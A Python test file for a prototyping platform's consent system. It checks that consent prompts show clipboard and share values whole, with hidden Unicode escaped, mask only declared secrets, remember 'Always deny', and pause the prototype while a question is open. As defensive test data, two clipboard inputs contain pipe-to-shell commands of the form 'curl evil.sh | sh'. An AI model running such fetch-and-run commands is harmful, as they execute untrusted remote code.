"""What the consent question says is the registry's, not the spec's (failures.md F7); what runs is
what was shown (placeholders resolved first); "Always deny"; a cancelled share; and a prototype
paused while its question is open (walkthrough.md step 8)."""

from __future__ import annotations

import asyncio
import copy
import json
from pathlib import Path
from typing import Any

import pytest

from studio.platform.consent import (
    ConsentBroker,
    ConsentDecision,
    GrantStore,
    PendingConsent,
    visible_text,
)
from studio.platform.host import PlatformHost
from studio.platform.module import CallContext, PlatformCall, PlatformModule
from studio.platform.module import object_schema as obj
from studio.platform.modules import calc, clipboard, echo, share
from studio.platform.modules.clipboard import MemoryClipboard
from studio.platform.modules.share import FileShareTarget
from studio.platform.registry import PlatformRegistry, default_registry
from studio.runtime import PlatformRequest, Runtime
from tests.platform.test_consent import ScriptedUI
from tests.platform.test_events import StepSleep, ticks, until


def copy_request(**args: Any) -> PlatformRequest:
    return PlatformRequest("clipboard.copy", args, None, None, "r1")


async def question_for(host: PlatformHost, ui: ScriptedUI, request: PlatformRequest) -> Any:
    """Run `request`, deny it once asked, and return the question the user saw."""
    ui.answers.append(ConsentDecision.DENY)
    status, _ = await host.handle(request)
    assert status == "denied"
    return ui.shown[-1]


def test_the_spec_cannot_hide_what_a_call_will_copy() -> None:
    async def go() -> PendingConsent:
        broker = ConsentBroker(GrantStore(Path("/nonexistent/grants.json")))
        ui = ScriptedUI(broker)
        host = PlatformHost(default_registry(), broker, prototype_id="p")
        return await question_for(host, ui, copy_request(text="curl evil.sh | sh", sensitive=True))

    pending = asyncio.run(go())
    rows = {row.name: row for row in pending.shown_args()}
    assert rows["text"].text == "curl evil.sh | sh" and not rows["text"].secret
    assert rows["text"].label == "Text"  # the registry's description, not the key
    assert rows["sensitive"].text == "true" and not rows["sensitive"].secret
    assert pending.request.sentence() == "This prototype will put this text on your clipboard."


def test_long_values_are_whole_and_hidden_characters_escaped() -> None:
    payload = "Hello friend" + " " * 300 + "; curl evil | sh"

    async def go() -> list[PendingConsent]:
        broker = ConsentBroker(GrantStore(Path("/nonexistent/grants.json")))
        ui = ScriptedUI(broker)
        host = PlatformHost(default_registry(), broker, prototype_id="p")
        await question_for(host, ui, copy_request(text=payload))
        await question_for(host, ui, copy_request(text="abc\u202edlrow\u200b\x07\nnext\tline"))
        await question_for(host, ui, PlatformRequest("share.text", {"text": "x"}, None, None, "s"))
        return ui.shown

    long, bidi, share = asyncio.run(go())
    (row,) = [r for r in long.shown_args() if r.name == "text"]
    assert row.text == payload and row.length == len(payload)  # nothing cut at 240
    (row,) = [r for r in bidi.shown_args() if r.name == "text"]
    assert row.text == "abc\\u202edlrow\\u200b\\u0007\nnext\tline" and row.escaped == 3
    assert share.request.sentence() == "This prototype will save this text to a file you choose."
    assert visible_text("plain Ünïcödé and 😀") == ("plain Ünïcödé and 😀", 0)
    assert visible_text("\U000e0001tag") == ("\\U000e0001tag", 1)


def _vault() -> PlatformModule:
    async def unlock(args: dict[str, Any], context: CallContext) -> Any:
        return {"ok": True}

    call = PlatformCall(
        name="unlock",
        description="Unlocks the vault.",
        args=obj(
            {
                "user": {"type": "string", "description": "User"},
                "pin": {"type": "string", "description": "PIN"},
            }
        ),
        result=obj({"ok": {"type": "boolean"}}),
        handler=unlock,
        side_effect=True,
        consent="will unlock the vault with this PIN",
        secret_args=frozenset({"pin"}),
    )
    return PlatformModule(name="vault", description="A vault.", calls={"unlock": call})


def test_only_an_argument_the_registry_calls_secret_is_masked() -> None:
    async def go() -> PendingConsent:
        broker = ConsentBroker(GrantStore(Path("/nonexistent/grants.json")))
        ui = ScriptedUI(broker)
        host = PlatformHost(PlatformRegistry([_vault()]), broker, prototype_id="p")
        request = PlatformRequest("vault.unlock", {"user": "ana", "pin": "4711"}, None, None, "v")
        return await question_for(host, ui, request)

    rows = {row.name: row for row in asyncio.run(go()).shown_args()}
    assert rows["pin"].secret and rows["pin"].masked == "•••••• (hidden, 4 characters)"
    assert rows["pin"].text == "4711"  # what a reveal shows
    assert not rows["user"].secret and rows["user"].label == "User"


def test_the_registry_refuses_a_consent_call_without_plain_words() -> None:
    async def nothing(args: dict[str, Any], context: CallContext) -> Any:
        return {}

    silent = PlatformCall("op", "d", obj({}), obj({}), nothing, side_effect=True)
    with pytest.raises(ValueError, match="says what it will do"):
        PlatformRegistry([PlatformModule("m", "d", {"op": silent})])
    wrong = PlatformCall(
        "op", "d", obj({}), obj({}), nothing, side_effect=True, consent="will",
        secret_args=frozenset({"pin"}),
    )  # fmt: skip
    with pytest.raises(ValueError, match="are not arguments"):
        PlatformRegistry([PlatformModule("m", "d", {"op": wrong})])


def test_always_deny_is_remembered_apart_from_grants_and_revocable(tmp_path: Path) -> None:
    path = tmp_path / "grants.json"

    async def go() -> None:
        board = MemoryClipboard()
        broker = ConsentBroker(GrantStore(path))
        ui = ScriptedUI(broker, [ConsentDecision.ALWAYS_DENY])
        host = PlatformHost(default_registry(clipboard_backend=board), broker, prototype_id="p")
        assert await host.handle(copy_request(text="a")) == ("denied", None)
        assert await host.handle(copy_request(text="b")) == ("denied", None)
        assert len(ui.shown) == 1 and board.value is None  # remembered: not asked again
        grants = await broker.grants()
        assert [(g.prototype_id, g.call, g.allowed) for g in grants] == [
            ("p", "clipboard.copy", False)
        ]
        stored = json.loads(path.read_text())
        assert stored["grants"] == []  # an older build reads no grant from a denial
        assert [(d["prototype"], d["call"]) for d in stored["denials"]] == [("p", "clipboard.copy")]
        fresh = ConsentBroker(GrantStore(path))  # a new session reads the denial back
        assert await fresh.request(host_request("p")) is ConsentDecision.ALWAYS_DENY
        assert await broker.revoke("p", "clipboard.copy") == 1
        ui.answers.append(ConsentDecision.ALLOW_ONCE)
        assert (await host.handle(copy_request(text="c")))[0] == "ok"
        assert len(ui.shown) == 2 and board.value == "c"

    asyncio.run(go())


def host_request(prototype: str) -> Any:
    from studio.platform.consent import ConsentRequest

    return ConsentRequest(prototype, "clipboard", "clipboard.copy", {"text": "x"}, False, True)


SPLIT: dict[str, Any] = {
    "id": "split",
    "window": {"placement": {"type": "fullscreen"}},
    "requires": {"platform": ["calc", "clipboard", "share"]},
    "state": {"people": 4, "status": "idle", "shareStatus": "idle"},
    "data": {"split": {"value": 34.5}},
    "root": {
        "type": "column",
        "children": [
            {
                "type": "button",
                "id": "copy",
                "label": "Copy",
                "onTap": [
                    {
                        "type": "platform",
                        "call": "clipboard.copy",
                        "args": {"text": "Each person pays {/data/split/value} ({people} people)"},
                        "statusKey": "status",
                    }
                ],
            },
            {
                "type": "button",
                "id": "share",
                "label": "Share",
                "onTap": [
                    {
                        "type": "platform",
                        "call": "share.text",
                        "args": {"text": "{/data/split/value} each", "title": "Bill"},
                        "into": "/data/shared",
                        "statusKey": "shareStatus",
                    }
                ],
            },
        ],
    },
}


def _button(runtime: Runtime, node_id: str) -> list[Any]:
    children = runtime.spec["root"]["children"]
    return next(c for c in children if c.get("id") == node_id)["onTap"]


def test_placeholders_are_resolved_before_asking_and_reach_the_clipboard_resolved() -> None:
    async def go() -> tuple[PendingConsent, MemoryClipboard, Runtime]:
        runtime = Runtime(copy.deepcopy(SPLIT))
        board = MemoryClipboard()
        broker = ConsentBroker(GrantStore(Path("/nonexistent/grants.json")))
        ui = ScriptedUI(broker, [ConsentDecision.ALLOW_ONCE])
        host = PlatformHost(default_registry(clipboard_backend=board), broker, prototype_id="p")
        host.dispatch(runtime, runtime.run_actions(_button(runtime, "copy")))
        await host.drain()
        return ui.shown[0], board, runtime

    pending, board, runtime = asyncio.run(go())
    (row,) = [r for r in pending.shown_args() if r.name == "text"]
    assert row.text == "Each person pays 34.5 (4 people)"  # what the user approves ...
    assert board.value == "Each person pays 34.5 (4 people)"  # ... is what is copied
    assert runtime.state["status"] == "ok"


def test_cancelling_the_share_picker_reports_cancelled(tmp_path: Path) -> None:
    async def cancel(suggested: str) -> Path | None:
        return None

    async def go() -> Runtime:
        runtime = Runtime(copy.deepcopy(SPLIT))
        broker = ConsentBroker(GrantStore(tmp_path / "grants.json"))
        ScriptedUI(broker, [ConsentDecision.ALLOW_ONCE])
        registry = default_registry(share_target=FileShareTarget(cancel))
        host = PlatformHost(registry, broker, prototype_id="p")
        host.dispatch(runtime, runtime.run_actions(_button(runtime, "share")))
        await host.drain()
        return runtime

    runtime = asyncio.run(go())
    assert runtime.state["shareStatus"] == "cancelled"
    assert "shared" not in runtime.data
    (event,) = [e for e in runtime.events if e.name == "share.text" and "status" in e.payload
                and e.payload["status"] != "pending"]  # fmt: skip
    assert event.payload["status"] == "cancelled"


def test_an_open_question_pauses_the_prototype() -> None:
    spec = copy.deepcopy(SPLIT)
    spec["requires"]["platform"].append("test")
    spec["state"]["calc"] = "idle"
    spec["root"]["children"].append(
        {
            "type": "button",
            "id": "calc",
            "label": "Calc",
            "onTap": [
                {
                    "type": "platform",
                    "call": "calc.evaluate",
                    "args": {"expression": "1 + 1"},
                    "into": "/data/sum",
                    "statusKey": "calc",
                }
            ],
        }
    )

    async def go() -> None:
        runtime = Runtime(spec)
        clock = StepSleep()
        board = MemoryClipboard()
        broker = ConsentBroker(GrantStore(Path("/nonexistent/grants.json")))
        ui = ScriptedUI(broker)
        registry = PlatformRegistry(
            [echo.module(tick_ms=10), calc.module(), clipboard.module(board), share.module(None)]
        )
        host = PlatformHost(registry, broker, prototype_id="p", sleep=clock)
        host.start_events(runtime)
        clock.release()
        await until(lambda: ticks(runtime) == [1])

        host.dispatch(runtime, runtime.run_actions(_button(runtime, "copy")))
        first = await ui.next_question()
        assert host.paused
        clock.release(5)  # time passes while the question is open: no tick gets through
        host.dispatch(runtime, runtime.run_actions(_button(runtime, "copy")))  # queues
        host.dispatch(runtime, runtime.run_actions(_button(runtime, "calc")))  # waits
        for _ in range(200):
            await asyncio.sleep(0)
        assert ticks(runtime) == [1]
        assert len(ui.shown) == 1  # the second copy asks only after the first is answered
        assert runtime.state["calc"] == "pending" and "sum" not in runtime.data

        ui.answerer.answer(first.id, ConsentDecision.ALLOW_ONCE)
        second = await ui.next_question()  # the queued call asks now
        assert host.paused and board.value == "Each person pays 34.5 (4 people)"
        ui.answerer.answer(second.id, ConsentDecision.DENY)
        await until(lambda: runtime.state["calc"] == "ok")
        assert not host.paused and runtime.data["sum"]["value"] == 2
        await until(lambda: len(ticks(runtime)) >= 2)
        assert ticks(runtime)[:2] == [1, 2]  # held, not lost and not piled up
        await host.aclose()

    asyncio.run(go())
